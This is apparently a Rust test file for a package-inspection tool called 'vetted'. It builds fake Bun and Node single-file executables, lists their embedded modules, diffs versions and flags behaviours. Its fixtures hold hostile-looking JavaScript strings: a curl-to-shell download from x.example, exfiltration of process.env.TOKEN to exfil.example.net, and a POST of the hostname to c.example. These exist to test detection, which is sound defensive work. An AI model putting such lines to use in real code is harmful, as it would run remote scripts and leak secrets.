//! Bun single-file executables: a generated Bun-like ELF (header bytes, fake code, a `.bun`-style
//! module graph, fake symbol tables after it) packed in a tgz is inspected, its embedded modules
//! are listed with their sha256, and a diff of two generated versions reports embedded modules
//! changed and added and a URL added inside one. Corrupt graphs are ignored without a panic.
//! No real Claude Code data: everything is built here, in the layout of Bun's
//! `StandaloneModuleGraph.zig` (52-byte module records, 32-byte offsets, trailer).
use flate2::Compression;
use flate2::write::GzEncoder;
use sha2::{Digest, Sha256};
use std::io::Write;
use vetted::content::manifest::{BehaviourKind, EntryKind};
use vetted::content::{ContentManifest, InspectOptions, inspect_file};
use vetted::diff::{self, SignalKind};
use vetted::limits::Limits;

const TRAILER: &[u8] = b"\n---- Bun! ----\n";

/// The graph blob: strings, module table, exec argv, offsets, trailer.
fn graph(modules: &[(&str, &[u8])]) -> Vec<u8> {
    let mut blob = Vec::new();
    let put = |blob: &mut Vec<u8>, b: &[u8]| {
        let p = (blob.len() as u32, b.len() as u32);
        blob.extend_from_slice(b);
        blob.push(0);
        p
    };
    let mut table = Vec::new();
    for (name, contents) in modules {
        let n = put(&mut blob, name.as_bytes());
        let c = put(&mut blob, contents);
        for (off, len) in [n, c, (0, 0), (0, 0), (0, 0), n] {
            table.extend_from_slice(&off.to_le_bytes());
            table.extend_from_slice(&len.to_le_bytes());
        }
        table.extend_from_slice(&[1, 1, 1, 0]); // latin1, js, esm, server
    }
    let table_at = blob.len() as u32;
    blob.extend_from_slice(&table);
    let argv = put(&mut blob, b"--smol");
    let byte_count = blob.len() as u64;
    blob.extend_from_slice(&byte_count.to_le_bytes());
    blob.extend_from_slice(&table_at.to_le_bytes());
    blob.extend_from_slice(&(table.len() as u32).to_le_bytes());
    blob.extend_from_slice(&0u32.to_le_bytes()); // entry point
    blob.extend_from_slice(&argv.0.to_le_bytes());
    blob.extend_from_slice(&argv.1.to_le_bytes());
    blob.extend_from_slice(&0u32.to_le_bytes()); // flags
    blob.extend_from_slice(TRAILER);
    blob
}

/// Where the graph starts in [`executable`]'s output.
const GRAPH_AT: usize = 100_000 + 8;

/// A Bun-like ELF: header, fake code (over the 64 KiB floor), `.bun` (u64 length + graph), tables.
fn executable(modules: &[(&str, &[u8])]) -> Vec<u8> {
    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
    exe.resize(4096, 0);
    exe.extend_from_slice(b"https://bun.sh/ \n---- Bun! ----\n (the constant, in rodata)");
    exe.resize(100_000, 0x90);
    let g = graph(modules);
    exe.extend_from_slice(&((g.len() - 48) as u64).to_le_bytes());
    exe.extend_from_slice(&g);
    exe.extend_from_slice(&[0x11; 5000]); // .comment, .symtab, section headers...
    exe
}

fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_ustar();
        h.set_size(data.len() as u64);
        h.set_mode(0o755);
        h.set_cksum();
        b.append_data(&mut h, name, *data).unwrap();
    }
    let mut e = GzEncoder::new(Vec::new(), Compression::fast());
    e.write_all(&b.into_inner().unwrap()).unwrap();
    e.finish().unwrap()
}

fn inspect(bytes: &[u8], expect_archive: bool) -> ContentManifest {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("artifact");
    std::fs::write(&path, bytes).unwrap();
    inspect_file(
        &path,
        &InspectOptions {
            limits: Limits::default(),
            expect_archive,
        },
    )
    .unwrap()
}

fn sha(b: &[u8]) -> String {
    format!("sha256:{}", hex::encode(Sha256::digest(b)))
}

const PKG: &[u8] = br#"{"name":"@x/bunapp","version":"1.0.0"}"#;
const CLI_V1: &[u8] = b"import './chunk.js'; console.log(process.env.HOME)";
const CHUNK_V1: &[u8] = b"export const api = 'https://api.example.com/v1';";
const CHUNK_V2: &[u8] =
    b"export const api = 'https://api.example.com/v1'; fetch('https://exfil.example.net/x')";
const ADDON: &[u8] = b"\x7fELF\x02\x01\x01\0native addon";

fn v1() -> Vec<u8> {
    executable(&[
        ("/$bunfs/root/cli.js", CLI_V1),
        ("/$bunfs/root/chunk.js", CHUNK_V1),
    ])
}

fn v2() -> Vec<u8> {
    executable(&[
        ("/$bunfs/root/cli.js", CLI_V1),
        ("/$bunfs/root/chunk.js", CHUNK_V2),
        ("/$bunfs/root/addon.node", ADDON),
    ])
}

#[test]
fn embedded_modules_are_listed_with_their_digests() {
    let exe = v1();
    let m = inspect(
        &tgz(&[("package/package.json", PKG), ("package/claude", &exe)]),
        true,
    );
    assert!(m.notes.is_empty(), "{:?}", m.notes);
    let cli = &m.entries["package/claude!/$bunfs/root/cli.js"];
    assert_eq!(cli.kind, EntryKind::Embedded);
    assert_eq!(cli.size, CLI_V1.len() as u64);
    assert_eq!(cli.sha256.as_ref().unwrap().to_string(), sha(CLI_V1));
    // Parsed JavaScript: behaviours with evidence, not byte-scan signals.
    let has = |e: &vetted::content::manifest::Entry, kind: BehaviourKind, v: &str| {
        e.behaviours
            .iter()
            .any(|b| b.kind == kind && b.value.as_deref() == Some(v))
    };
    assert!(
        has(cli, BehaviourKind::EnvRead, "HOME"),
        "{:?}",
        cli.behaviours
    );
    assert!(cli.signals.env_vars.is_empty());
    let chunk = &m.entries["package/claude!/$bunfs/root/chunk.js"];
    assert_eq!(chunk.sha256.as_ref().unwrap().to_string(), sha(CHUNK_V1));
    assert!(has(chunk, BehaviourKind::Url, "https://api.example.com/v1"));
    // The executable itself is still a file with its own digest; totals count archive files only.
    assert_eq!(
        m.entries["package/claude"]
            .sha256
            .as_ref()
            .unwrap()
            .to_string(),
        sha(&exe)
    );
    assert_eq!(m.totals.files, 2);
    assert_eq!(m.entries.len(), 4);
    // The same executable inspected on its own (not in an archive).
    let alone = inspect(&exe, false);
    let (name, _) = alone
        .entries
        .iter()
        .find(|(_, e)| e.kind == EntryKind::File)
        .unwrap();
    let key = format!("{name}!/$bunfs/root/chunk.js");
    assert_eq!(
        alone.entries[&key].sha256.as_ref().unwrap().to_string(),
        sha(CHUNK_V1)
    );
    // The manifest JSON round-trips with the new kind.
    let json = serde_json::to_string(&m).unwrap();
    assert!(json.contains(r#""kind":"embedded""#));
    let back: ContentManifest = serde_json::from_str(&json).unwrap();
    assert_eq!(back, m);
}

#[test]
fn diff_reports_embedded_changes_and_their_signals() {
    let old = inspect(
        &tgz(&[("package/package.json", PKG), ("package/claude", &v1())]),
        true,
    );
    let new = inspect(
        &tgz(&[("package/package.json", PKG), ("package/claude", &v2())]),
        true,
    );
    let r = diff::diff("old", &old, "new", &new);
    let added: Vec<&str> = r.files.added.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(added, ["package/claude!/$bunfs/root/addon.node"]);
    let changed: Vec<&str> = r
        .files
        .changed
        .iter()
        .map(|f| f.new_path.as_str())
        .collect();
    assert!(
        changed.contains(&"package/claude!/$bunfs/root/chunk.js"),
        "{changed:?}"
    );
    assert!(changed.contains(&"package/claude"));
    assert!(!changed.contains(&"package/claude!/$bunfs/root/cli.js"));
    let url = r
        .behaviours
        .iter()
        .find(|c| {
            c.change == "url-added"
                && c.behaviour.value.as_deref() == Some("https://exfil.example.net/x")
        })
        .expect("url-added from the embedded module");
    assert_eq!(url.module, "package/claude!/$bunfs/root/chunk.js");
    // Evidence in the module's own source: the literal, at its 1-based column.
    let col = CHUNK_V2.windows(7).position(|w| w == b"'https:").unwrap() + 1;
    let col = CHUNK_V2[col..]
        .windows(7)
        .position(|w| w == b"'https:")
        .unwrap()
        + col
        + 1;
    assert_eq!((url.behaviour.line, url.behaviour.column), (1, col as u32));
    assert!(
        url.behaviour
            .snippet
            .starts_with("'https://exfil.example.net/x'")
    );
    assert!(
        r.behaviours
            .iter()
            .any(|c| c.change == "network-added" && c.behaviour.value.as_deref() == Some("fetch"))
    );
    // The module that did not change contributes nothing.
    assert!(!r.behaviours.iter().any(|c| c.change.ends_with("-removed")));
    assert!(
        r.signals
            .iter()
            .any(|s| s.kind == SignalKind::NativeAddonAdded
                && s.subject == "package/claude!/$bunfs/root/addon.node"),
        "{:?}",
        r.signals
    );
}

#[test]
fn corrupt_graphs_are_ignored_without_panic() {
    let good = v2();
    let region = good.len() - GRAPH_AT;
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    // In memory through the same path as a plain file (fast): a few hundred mutations.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("exe");
    let opts = InspectOptions::default();
    for round in 0..300 {
        let mut bad = good.clone();
        for _ in 0..1 + round % 6 {
            let at = GRAPH_AT + (next() as usize % region);
            bad[at] = next() as u8;
        }
        if round % 7 == 0 {
            bad.truncate(GRAPH_AT + next() as usize % region);
        }
        std::fs::write(&path, &bad).unwrap();
        let m = inspect_file(&path, &opts).expect("a corrupt graph never fails the inspection");
        for (p, e) in &m.entries {
            if e.kind == EntryKind::Embedded {
                assert!(p.contains("!/"));
                assert!(e.size <= bad.len() as u64);
            }
        }
    }
    // A wrong trailer: no modules, nothing else changes.
    let mut bad = good.clone();
    let t = bad.len() - 5000 - 16;
    bad[t + 3] ^= 0xff;
    let m = inspect(&tgz(&[("package/claude", &bad)]), true);
    assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
    // An offset past the end: a note, no modules.
    let mut bad = good.clone();
    bad[t - 24..t - 20].copy_from_slice(&u32::MAX.to_le_bytes());
    let m = inspect(&tgz(&[("package/claude", &bad)]), true);
    assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
    assert_eq!(m.notes.len(), 1, "{:?}", m.notes);
    // A graph that starts before the kept tail: a note saying so.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("a.tgz");
    std::fs::write(&p, tgz(&[("package/claude", &good)])).unwrap();
    let limits = Limits {
        embedded_graph_bytes: 5100,
        ..Limits::default()
    };
    let m = inspect_file(
        &p,
        &InspectOptions {
            limits,
            expect_archive: true,
        },
    )
    .unwrap();
    assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
    assert!(m.notes[0].contains("embedded_graph_bytes"), "{:?}", m.notes);
}

/// `v1()` with a Bun runtime's own strings in its code: a version string, a release URL, an
/// environment name glued to a value, as in the real binary.
fn with_runtime(mut exe: Vec<u8>, version: &str) -> Vec<u8> {
    let rodata = format!(
        "Bun v{version} (6634fc3b5) Linux x64\0https://github.com/oven-sh/bun/releases/download/bun-v{version}/bun-linux-x64.zip\0NODE_ENVdevelopment process.env.NODE_ENV https://UNHANDLED_CRITICAL_CRL_EXTENSION"
    );
    exe[20_000..20_000 + rodata.len()].copy_from_slice(rodata.as_bytes());
    exe
}

#[test]
fn runtime_strings_are_one_runtime_behaviour_not_urls() {
    let exe = with_runtime(v1(), "1.4.4");
    let m = inspect(
        &tgz(&[("package/package.json", PKG), ("package/claude", &exe)]),
        true,
    );
    let e = &m.entries["package/claude"];
    assert!(
        e.signals.urls.is_empty() && e.signals.env_vars.is_empty(),
        "{:?}",
        e.signals
    );
    let kinds: Vec<_> = e
        .behaviours
        .iter()
        .map(|b| (b.kind, b.value.clone()))
        .collect();
    assert_eq!(
        kinds,
        [
            (BehaviourKind::Executable, Some("claude".to_string())),
            (BehaviourKind::Runtime, Some("bun-v1.4.4".to_string())),
        ]
    );
    // A runtime update is one change each way, from the executable, none from its strings.
    let new = inspect(
        &tgz(&[
            ("package/package.json", PKG),
            ("package/claude", &with_runtime(v1(), "1.4.6")),
        ]),
        true,
    );
    let r = diff::diff("old", &m, "new", &new);
    let changes: Vec<_> = r
        .behaviours
        .iter()
        .map(|c| (c.change.as_str(), c.behaviour.value.as_deref()))
        .collect();
    assert_eq!(
        changes,
        [
            ("runtime-added", Some("bun-v1.4.6")),
            ("runtime-removed", Some("bun-v1.4.4")),
        ]
    );
}

#[test]
fn a_file_that_only_looks_like_bun_has_no_runtime_fact() {
    // No module graph: the strings stay the byte scan's, and there is no runtime behaviour.
    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
    exe.resize(100_000, 0x90);
    let s = b"Bun v1.4.4 (x) https://example.com/a";
    exe[5000..5000 + s.len()].copy_from_slice(s);
    let m = inspect(&tgz(&[("package/tool", &exe)]), true);
    let e = &m.entries["package/tool"];
    assert!(
        e.behaviours
            .iter()
            .all(|b| b.kind != BehaviourKind::Runtime)
    );
    assert!(e.signals.urls.contains("https://example.com/a"));
}

#[test]
fn embedded_zst_resource_is_decompressed_and_analysed() {
    let js = b"require('child_process').exec('curl https://x.example/i.sh | sh')";
    let zst =
        ruzstd::encoding::compress_to_vec(&js[..], ruzstd::encoding::CompressionLevel::Fastest);
    let exe = executable(&[
        ("/$bunfs/root/cli.js", CLI_V1),
        ("/$bunfs/root/setup.mjs-0a1b2c3d.txt.zst", &zst),
        ("/$bunfs/root/README-0a1b2c3d.md.zst", b"not zstd"),
    ]);
    let m = inspect(&tgz(&[("package/claude", &exe)]), true);
    let e = &m.entries["package/claude!/$bunfs/root/setup.mjs-0a1b2c3d.txt.zst"];
    let spawn = e
        .behaviours
        .iter()
        .find(|b| b.kind == BehaviourKind::ProcessSpawn && b.attributes.contains("shell"))
        .expect("process-spawn from the decompressed module");
    assert!(spawn.attributes.contains("suspicious-command"));
    let bad = &m.entries["package/claude!/$bunfs/root/README-0a1b2c3d.md.zst"];
    assert!(
        bad.parse_error
            .as_deref()
            .is_some_and(|e| e.contains("zstd"))
    );
}

/// A Node single-executable application: a fake `node` with a `NODE_SEA_BLOB` note holding the
/// blob (`src/node_sea.cc` layout: magic, flags, code path, code, assets).
fn node_sea(code: &[u8]) -> Vec<u8> {
    let mut blob = 0x0143_da20u32.to_le_bytes().to_vec();
    blob.extend_from_slice(&8u32.to_le_bytes()); // kIncludeAssets
    for part in [&b"/src/dist/index.js"[..], code] {
        blob.extend_from_slice(&(part.len() as u64).to_le_bytes());
        blob.extend_from_slice(part);
    }
    blob.extend_from_slice(&1u64.to_le_bytes());
    for part in [&b"sdk/tool.mjs"[..], b"export default 1"] {
        blob.extend_from_slice(&(part.len() as u64).to_le_bytes());
        blob.extend_from_slice(part);
    }
    let mut e = b"\x7fELF\x02\x01\x01\0".to_vec();
    e.resize(80_000, 0x90);
    e.extend_from_slice(&14u32.to_le_bytes());
    e.extend_from_slice(&(blob.len() as u32).to_le_bytes());
    e.extend_from_slice(&0u32.to_le_bytes());
    e.extend_from_slice(b"NODE_SEA_BLOB\0\0\0");
    e.extend_from_slice(&blob);
    e.extend_from_slice(&[0u8; 64]);
    e
}

#[test]
fn node_sea_main_script_and_assets_are_embedded_modules() {
    let exe = node_sea(b"const os = require('os'); fetch('https://c.example', {method:'POST', body: os.hostname()});");
    let m = inspect(&tgz(&[("package/copilot", &exe)]), true);
    let main = &m.entries["package/copilot!/sea/index.js"];
    assert_eq!(main.kind, EntryKind::Embedded);
    assert!(
        main.behaviours
            .iter()
            .any(|b| b.kind == BehaviourKind::Exfiltration),
        "{:?}",
        main.behaviours
    );
    assert!(
        m.entries
            .contains_key("package/copilot!/sea/assets/sdk/tool.mjs")
    );
    // The binary itself is the runtime: no URL strings of its own are listed.
    let e = &m.entries["package/copilot"];
    assert!(
        e.behaviours
            .iter()
            .any(|b| b.kind == BehaviourKind::Runtime)
    );
}

/// Tens of thousands of fake trailers in the last 4 MiB, each claiming a maximal module table
/// (a whole number of 52-byte records) and an entry point past it, so each fails only after
/// its table was read. Before the limits, each cost a 16 MiB read: inspect ran for minutes.
#[test]
fn tens_of_thousands_of_fake_bun_trailers_are_bounded() {
    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
    exe.resize(20 << 20, 0);
    let table_len: u32 = 52 * 322_638; // just under 16 MiB
    let unit_len = 48usize;
    let units = (4 << 20) / unit_len;
    for _ in 0..units {
        let off_at = exe.len() as u64;
        exe.extend_from_slice(&off_at.to_le_bytes()); // byte_count: blob starts at 0
        exe.extend_from_slice(&0u32.to_le_bytes()); // modules offset
        exe.extend_from_slice(&table_len.to_le_bytes());
        exe.extend_from_slice(&u32::MAX.to_le_bytes()); // entry point past the table
        exe.extend_from_slice(&[0u8; 12]);
        exe.extend_from_slice(TRAILER);
    }
    let start = std::time::Instant::now();
    let m = inspect(&tgz(&[("package/bun-app", &exe)]), true);
    let secs = start.elapsed().as_secs_f64();
    eprintln!("{units} fake trailers inspected in {secs:.2} s");
    assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
    assert!(
        m.notes.iter().any(|n| n.contains("limit exceeded")),
        "{:?}",
        m.notes
    );
    // Passing twin: a real graph is still read (see embedded_modules_are_listed_with_their_digests).
    let m = inspect(&tgz(&[("package/claude", &v2())]), true);
    assert!(m.entries.values().any(|e| e.kind == EntryKind::Embedded));
}

/// Claude Code's graph holds `mermaid.min.js` and others as zstd frames under a `.js` name. Read
/// as they are, they were "binary" (a parse error) and only byte-scanned, so code hidden in such
/// a module was never analysed. They are decompressed by their magic and analysed as JavaScript.
#[test]
fn zstd_frame_under_a_js_name_is_decompressed_and_analysed() {
    let js = b"require('child_process').exec('curl https://x.example/i.sh | sh')";
    let zst =
        ruzstd::encoding::compress_to_vec(&js[..], ruzstd::encoding::CompressionLevel::Fastest);
    assert_eq!(&zst[..4], b"\x28\xb5\x2f\xfd");
    let exe = executable(&[
        ("/$bunfs/root/cli.js", CLI_V1),
        ("/$bunfs/root/mermaid.min.js", &zst),
        // Not JavaScript by name: bytes that start like a frame stay what they are.
        ("/$bunfs/root/blob.bin", &zst),
    ]);
    let m = inspect(&tgz(&[("package/claude", &exe)]), true);
    let e = &m.entries["package/claude!/$bunfs/root/mermaid.min.js"];
    assert_eq!(e.parse_error, None);
    let spawn = e
        .behaviours
        .iter()
        .find(|b| b.kind == BehaviourKind::ProcessSpawn && b.attributes.contains("shell"))
        .expect("process-spawn from the decompressed module");
    assert!(spawn.attributes.contains("suspicious-command"));
    assert!(
        m.entries["package/claude!/$bunfs/root/blob.bin"]
            .behaviours
            .is_empty()
    );
    // A corrupt frame under a JavaScript name says why it was not analysed.
    let mut bad = zst.clone();
    bad.truncate(6);
    let exe = executable(&[
        ("/$bunfs/root/cli.js", CLI_V1),
        ("/$bunfs/root/mermaid.min.js", &bad),
    ]);
    let m = inspect(&tgz(&[("package/claude", &exe)]), true);
    let e = &m.entries["package/claude!/$bunfs/root/mermaid.min.js"];
    assert!(
        e.parse_error.as_deref().is_some_and(|p| p.contains("zstd")),
        "{:?}",
        e.parse_error
    );
}

// Admission of an audited build reuses the analysis in its stored manifest (content::reuse).

const EXFIL: &[u8] =
    b"require('child_process').exec('curl https://exfil.example.net/' + process.env.TOKEN)";

fn audited_tgz() -> Vec<u8> {
    let exe = executable(&[
        ("/$bunfs/root/cli.js", CLI_V1),
        ("/$bunfs/root/exfil.js", EXFIL),
        ("/$bunfs/root/x.node", ADDON),
    ]);
    tgz(&[
        ("package/package.json", PKG),
        ("package/bin/app", &exe),
        ("package/lib/helper.js", EXFIL),
    ])
}

fn inspect_reusing(bytes: &[u8], stored: ContentManifest) -> ContentManifest {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("artifact.tgz");
    std::fs::write(&path, bytes).unwrap();
    let limits = Limits::default();
    let reuse = vetted::content::reuse::Reuse::of(stored, &limits.js).unwrap();
    vetted::content::inspect_file_reusing(
        &path,
        &InspectOptions {
            limits,
            expect_archive: true,
        },
        reuse,
    )
    .unwrap()
}

fn spawns(m: &ContentManifest, path: &str) -> bool {
    m.entries[path]
        .behaviours
        .iter()
        .any(|b| b.kind == BehaviourKind::ProcessSpawn)
}

#[test]
fn admission_reusing_the_audited_analysis_lists_what_a_full_inspection_lists() {
    let bytes = audited_tgz();
    let full = inspect(&bytes, true);
    assert!(full.analysis.is_some(), "every manifest names its analysis");
    assert!(spawns(&full, "package/bin/app!/$bunfs/root/exfil.js"));
    assert!(spawns(&full, "package/lib/helper.js"));
    let again = inspect_reusing(&bytes, full.clone());
    assert_eq!(again, full);
}

#[test]
fn audited_build_takes_its_analysis_from_the_stored_manifest_instead_of_parsing_again() {
    // The stored manifest is the ledger's (content-addressed, named by the audit): what it
    // says the reviewed bytes do is what the admission records. Edited here to show that the
    // module is not parsed again.
    let bytes = audited_tgz();
    let mut stored = inspect(&bytes, true);
    for p in [
        "package/bin/app!/$bunfs/root/exfil.js",
        "package/lib/helper.js",
    ] {
        stored.entries.get_mut(p).unwrap().behaviours.clear();
    }
    let got = inspect_reusing(&bytes, stored);
    assert!(!spawns(&got, "package/bin/app!/$bunfs/root/exfil.js"));
    assert!(!spawns(&got, "package/lib/helper.js"));
}

#[test]
fn stored_analysis_of_other_bytes_is_not_copied_onto_changed_code() {
    // A stored manifest whose entries at these paths hold other bytes (another build, or an
    // entry swapped): the analysis of those bytes says nothing about these; they are parsed.
    let bytes = audited_tgz();
    let mut stored = inspect(&bytes, true);
    for p in [
        "package/bin/app!/$bunfs/root/exfil.js",
        "package/lib/helper.js",
    ] {
        let e = stored.entries.get_mut(p).unwrap();
        e.behaviours.clear();
        e.sha256 = Some(
            vetted::digest::Digest::from_hex(vetted::digest::Algorithm::Sha256, &"00".repeat(32))
                .unwrap(),
        );
    }
    let got = inspect_reusing(&bytes, stored);
    assert!(spawns(&got, "package/bin/app!/$bunfs/root/exfil.js"));
    assert!(spawns(&got, "package/lib/helper.js"));
}

#[test]
fn stored_analysis_made_by_another_analysis_is_not_reused() {
    // An older vetted (or other limits) may have missed what this one finds.
    let bytes = audited_tgz();
    let mut stored = inspect(&bytes, true);
    let js = Limits::default().js;
    stored.analysis = Some("vetted 0.0.1 content-source 0000000000000000 js {}".into());
    let why = vetted::content::reuse::Reuse::of(stored.clone(), &js).unwrap_err();
    assert!(why.contains("another analysis"), "{why}");
    stored.analysis = None;
    let why = vetted::content::reuse::Reuse::of(stored.clone(), &js).unwrap_err();
    assert!(why.contains("does not record"), "{why}");
    let mut other = js;
    other.source_bytes -= 1;
    let fresh = inspect(&bytes, true);
    assert!(
        vetted::content::reuse::Reuse::of(fresh, &other).is_err(),
        "other limits"
    );
}
